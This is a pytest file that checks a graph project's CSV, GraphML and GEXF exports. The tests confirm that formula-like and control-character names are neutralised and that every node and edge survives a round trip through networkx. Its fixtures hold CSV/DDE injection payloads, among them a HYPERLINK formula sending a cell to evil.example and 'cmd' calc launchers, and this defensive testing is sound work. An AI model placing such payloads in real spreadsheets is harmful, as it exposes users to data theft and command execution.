"""Exports a spreadsheet and Gephi can trust, on data with hostile text, from both
engines: formulas neutralised in CSV, no control characters in XML, GraphML and
GEXF read back by networkx with names as labels and every edge kept."""

from __future__ import annotations

import csv
import io
import re
import xml.etree.ElementTree as ET
import zipfile

import networkx as nx
import pytest

from graph.export import export_bytes
from graph.projection import to_networkx
from loaders.rows import Batch, DocumentRow, EntityRow, MentionRow, RelationRow

HOSTILE = ["=HYPERLINK(\"http://evil.example/?x=\"&A1, \"klik\")", "+cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\tTab Zorg", "\rCR Zorg"]
CONTROL = "Zorg\x08groep \x1b[31mRood\x1b[0m \x00nul\x0c"


def hostile_batches() -> list[Batch]:
    """Two sources naming the same pairs (parallel edges), with formula-like names
    and control characters in names and sentences."""
    out = []
    for k in range(2):
        doc = DocumentRow(source=f"test://export-{k}", title=f"bron {k}\x07", checksum=f"c{k}")
        ini = EntityRow("Zorgpact \x1b[1mTest", "initiative")
        orgs = [EntityRow(n, "care_provider") for n in [*HOSTILE, CONTROL]]
        b = Batch(documents=[doc], entities=[ini, *orgs])
        for o in orgs:
            b.relations.append(RelationRow(o.id, "PARTNER_IN", ini.id, doc.id,
                                           sentence=f"=zin met \x1b[31m {k}", locator="zin 1"))
            b.mentions.append(MentionRow(o.id, doc.id, [o.name], "zin 1"))
        b.relations.append(RelationRow(orgs[0].id, "ORGANISED", ini.id, doc.id, sentence="s"))
        out.append(b)
    return out


@pytest.fixture
def hostile_graph(store):
    store.load(hostile_batches())
    return to_networkx(store)


def _bad_xml_chars(data: bytes) -> list[str]:
    text = data.decode("utf-8")
    return sorted({hex(ord(c)) for c in text
                   if (ord(c) < 0x20 and c not in "\t\n\r") or 0x7f <= ord(c) <= 0x9f})


def test_csv_cells_cannot_run_as_formulas(hostile_graph):
    data = export_bytes(hostile_graph, "csv")
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        nodes = list(csv.DictReader(io.StringIO(z.read("nodes.csv").decode("utf-8"))))
        edges = list(csv.DictReader(io.StringIO(z.read("edges.csv").decode("utf-8"))))
    cells = [v for row in (*nodes, *edges) for v in row.values()]
    assert not [c for c in cells if c and c[0] in "=+-@\t\r"]
    names = {r["name"] for r in nodes}
    for name in HOSTILE:
        assert "'" + name in names  # kept, shown as text
    assert any(r["sentence"].startswith("'=zin met") for r in edges)


@pytest.mark.parametrize("fmt", ["graphml", "gexf"])
def test_xml_exports_read_back_with_names_labels_all_edges_and_titles(hostile_graph, fmt):
    G = hostile_graph
    data = export_bytes(G, fmt)
    assert _bad_xml_chars(data) == []
    ET.fromstring(data)  # well-formed XML
    H = nx.read_graphml(io.BytesIO(data)) if fmt == "graphml" else \
        nx.read_gexf(io.BytesIO(data), version="1.3")
    # no lost nodes or edges: edge ids are unique, parallel edges (two sources) stay
    assert H.number_of_nodes() == G.number_of_nodes()
    assert H.number_of_edges() == G.number_of_edges() == 2 * (2 * 7 + 1)
    root = ET.fromstring(data)
    edge_ids = [e.get("id") for e in root.iter() if e.tag.endswith("}edge")]
    assert len(edge_ids) == len(set(edge_ids)) == G.number_of_edges()
    # labels: a node's name, an edge's relation type
    for n, d in G.nodes(data=True):
        expected = re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f]", "", d["name"])
        expected = expected.replace("\r", "\n")  # an XML parser reads CR as LF
        assert H.nodes[n]["label"].replace("\r", "\n") == expected
        assert H.nodes[n]["type"] == d["label"]
    rels = sorted(d["rel"] for *_, d in G.edges(data=True))
    assert sorted(d["label"] for *_, d in H.edges(data=True)) == rels
    # attributes are declared with their names as titles
    if fmt == "graphml":
        titles = {k.get("attr.name") for k in root.iter() if k.tag.endswith("}key")}
    else:
        titles = {a.get("title") for a in root.iter() if a.tag.endswith("}attribute")}
    assert {"name", "kind", "type", "sentence", "confidence"} <= titles
    assert "\x1b" not in data.decode("utf-8")


def test_query_table_shows_control_characters_as_escapes():
    from zorgnet.cli_query import format_csv, format_table

    out = format_table(["naam"], [{"naam": "Rood\x1b[31m!\x07"}, {"naam": "\u202eevil"}])
    assert "\x1b" not in out and "\x07" not in out and "\u202e" not in out
    assert "Rood\\x1b[31m!\\x07" in out and "\\u202eevil" in out
    assert format_csv(["a", "n"], [{"a": "=1+1", "n": -3}]) == "a,n\n'=1+1,-3\n"
